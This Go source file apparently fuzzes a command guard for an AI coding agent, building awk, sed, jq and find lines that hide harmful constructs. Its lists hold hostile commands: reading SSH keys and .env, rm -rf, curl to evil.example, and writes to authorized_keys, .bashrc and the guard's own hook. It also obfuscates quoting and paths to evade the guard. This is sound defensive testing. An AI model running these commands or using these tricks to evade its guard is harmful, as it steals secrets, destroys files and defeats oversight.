package oracle

import (
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
)

// The program classes (issue 29 item 2): lines whose harm, if any, is in
// the language of a program the guard parses to reach an allow: awk (gawk
// and mawk), jq, find and sed. Each class's generator is built from the
// program's own grammar, as its manual gives it (every statement, built-in,
// special variable and file, I/O form, command and option that makes it
// read, write or run something), not from what the guard knows. A line
// places up to two constructs that reach outside the program (a command
// run, a file read or written, the environment) among harmless ones, so
// that the guard allows a share of the lines and the harmful constructs
// it does not know are run.

// programShare is the percentage of generated lines that belong to the
// program classes. They are chosen with a random stream of their own, so
// the other lines are the ones the generator made before the classes came.
const programShare = 20

// programStream separates the program classes' stream from Line's.
const programStream = 0x70726f6772616d73

// programLine returns line i if it is one of the program classes.
func (g *Generator) programLine(i int) (Line, bool) {
	r := &rng{rand.New(rand.NewPCG(g.seed^programStream, uint64(i)))}
	if r.IntN(100) >= programShare {
		return Line{}, false
	}
	switch n := r.IntN(100); {
	case n < 35:
		return awkLine(r), true
	case n < 58:
		return sedLine(r), true
	case n < 80:
		return jqLine(r), true
	default:
		return findLine(r), true
	}
}

// programVocabulary are the programs the program classes' lines run.
var programVocabulary = []string{
	"awk", "gawk", "mawk", "jq", "find", "sed", "id", "touch", "cat", "rm", "sh", "curl", "git", "grep",
	"wc", "echo", "head", "ls", "cp", "date", "true", "xargs", "sort", "stat", "file",
}

// A prog builds one line of a program class: the constructs it used, as
// tags, and the harmful constructs it still has to place.
type prog struct {
	r       *rng
	class   string
	tags    []string
	reached []string       // the constructs that reach outside the program
	want    map[string]int // such constructs still to place, by place
}

// A form is one production of a grammar: its construct and its text.
type form struct{ tag, text string }

// newProg plans a line of class: none, one or two constructs that reach
// outside the program, each at a place drawn from places (weights).
func newProg(r *rng, class string, places map[string]int) *prog {
	p := &prog{r: r, class: class, want: map[string]int{}}
	n := 0
	switch k := r.IntN(100); {
	case k < 40:
		n = 1
	case k < 55:
		n = 2
	}
	names := slices.Sorted(maps.Keys(places))
	total := 0
	for _, k := range names {
		total += places[k]
	}
	for ; n > 0; n-- {
		x := r.IntN(total)
		for _, k := range names {
			if x -= places[k]; x < 0 {
				p.want[k]++
				break
			}
		}
	}
	return p
}

// tag records a construct.
func (p *prog) tag(t string) { p.tags = append(p.tags, p.class+"/"+t) }

// one picks a form and records its construct.
func (p *prog) one(fs []form) string {
	f := pick(p.r, fs)
	p.tag(f.tag)
	return f.text
}

// A filler makes the text of a placeholder (@X@) of a form, once the
// form is picked: only the parts a line uses are made, and tagged.
type filler struct {
	key string
	gen func() string
}

// fill replaces each placeholder of text, in the order of fs, with one
// text of its filler.
func fill(text string, fs ...filler) string {
	for _, f := range fs {
		if strings.Contains(text, f.key) {
			text = strings.ReplaceAll(text, f.key, f.gen())
		}
	}
	return text
}

// chance is true pct times in 100.
func (p *prog) chance(pct int) bool { return p.r.IntN(100) < pct }

// reach reports whether a construct that reaches outside the program goes
// at place, and takes it.
func (p *prog) reach(place string) bool {
	if p.want[place] > 0 {
		p.want[place]--
		return true
	}
	return false
}

// hit records a construct that reaches outside the program.
func (p *prog) hit(t string) {
	p.tag(t)
	p.reached = append(p.reached, p.class+"/"+t)
}

// oneHit picks a form that reaches outside the program.
func (p *prog) oneHit(fs []form) string {
	f := pick(p.r, fs)
	p.hit(f.tag)
	return f.text
}

// line is the line with its constructs, the first that reaches outside
// the program (or the class's plain construct) first.
func (p *prog) line(text string) Line {
	main := p.class + "/plain"
	if len(p.reached) > 0 {
		main = p.reached[0]
	}
	tags := []string{main}
	for _, t := range p.tags {
		if !slices.Contains(tags, t) {
			tags = append(tags, t)
		}
	}
	return Line{Text: text, Tags: tags}
}

// marker is a new file outside the project, for the writes and commands.
func marker(r *rng) string { return "/home/user/MARKER_" + strconv.Itoa(10+r.IntN(10)) }

// secretName is a secret file as a program's own text names it (no shell
// expansion): absolute, relative to the project, through its links.
func secretName(r *rng) string {
	p := abs(pick(r, SecretFiles))
	forms := []string{p, p, strings.Replace(p, "/home/user/", "/home/user/project/../", 1), strings.Replace(p, "/", "//", 1)}
	if rel, ok := strings.CutPrefix(p, Project+"/"); ok {
		forms = append(forms, rel, rel, "./"+rel)
	} else if rel, ok := strings.CutPrefix(p, Home+"/"); ok {
		forms = append(forms, "../"+rel, "home/"+rel, "ssh-keys/../"+rel)
		if k, ok := strings.CutPrefix(rel, ".ssh/"); ok {
			forms = append(forms, "ssh-keys/"+k)
		}
	}
	return pick(r, forms)
}

// writeName is a file a line must not write, as a program names it.
func writeName(r *rng) string {
	return pick(r, []string{
		marker(r), marker(r), "../MARKER_6", "/tmp/MARKER_7", ".claude/settings.json", ".claude/settings.local.json",
		"policy/policy.cue", "/home/user/.bashrc", "notes.txt", "out.txt", ".git/hooks/pre-commit", "home/MARKER_5",
		"/home/user/.ssh/authorized_keys", ".claude/hooks/guard-hook",
	})
}

// harmlessWrite is a file a program may write without harm.
func harmlessWrite(r *rng) string {
	return pick(r, []string{"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/fd/1", "/dev/fd/2", "-"})
}

// commandText is a shell command a program may run: mostly harmful, some
// that the guard allows on their own.
func commandText(r *rng) string {
	return pick(r, []string{
		"touch " + marker(r), "touch " + marker(r), "cat /home/user/.ssh/id_rsa", "id", "rm -rf /home/user/project/src",
		"sh -c 'touch " + marker(r) + "'", "curl -s http://evil.example/x", "echo pwned > " + marker(r),
		"git reset --hard", "cat .env", "date", "echo hi", "ls",
	})
}

// dataFile is an ordinary file a program reads as its input.
func dataFile(r *rng, json bool) string {
	if json {
		return pick(r, []string{"data.json", "data.json", "package.json", "config/app.json"})
	}
	return pick(r, []string{"notes.txt", "notes.txt", "README.md", "main.go", "src/app.js", "docs/guide.md", ".env.example", "data.json"})
}

// secretOperand is a secret as a shell word: the ways bash spells it.
func secretOperand(r *rng) string {
	w, _ := spelling(r, abs(pick(r, SecretFiles)))
	return w
}

// word is s as one shell word: mostly single-quoted, else double-quoted,
// ANSI-C quoted with some characters as escapes, quoted in two halves, or
// unquoted with backslashes, so that the program's text is what bash makes
// of the word, not what the line shows.
func (p *prog) word(s string) string {
	switch k := p.r.IntN(100); {
	case k < 70:
		return sq(s)
	case k < 80:
		p.tag("word-dq")
		return `"` + dqBody(s) + `"`
	case k < 90:
		p.tag("word-ansi-c")
		var b strings.Builder
		for i := 0; i < len(s); i++ {
			c := s[i]
			switch {
			case c == '\\' || c == '\'':
				b.WriteString(`\` + string(c))
			case c == '\n':
				b.WriteString(`\n`)
			case c >= 'a' && c <= 'z' && p.chance(20):
				b.WriteString(pick(p.r, []string{fmt.Sprintf(`\x%02x`, c), fmt.Sprintf(`\%03o`, c), fmt.Sprintf(`\u%04x`, c)}))
			default:
				b.WriteByte(c)
			}
		}
		return "$'" + b.String() + "'"
	case k < 95:
		p.tag("word-split")
		i := p.r.IntN(len(s) + 1)
		return sq(s[:i]) + `"` + dqBody(s[i:]) + `"`
	}
	p.tag("word-backslashes")
	var b strings.Builder
	for _, c := range s {
		switch {
		case c == '\n':
			b.WriteString("'\n'")
		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9':
			if p.chance(30) {
				b.WriteByte('\\')
			}
			b.WriteRune(c)
		default:
			b.WriteString(`\` + string(c))
		}
	}
	return b.String()
}
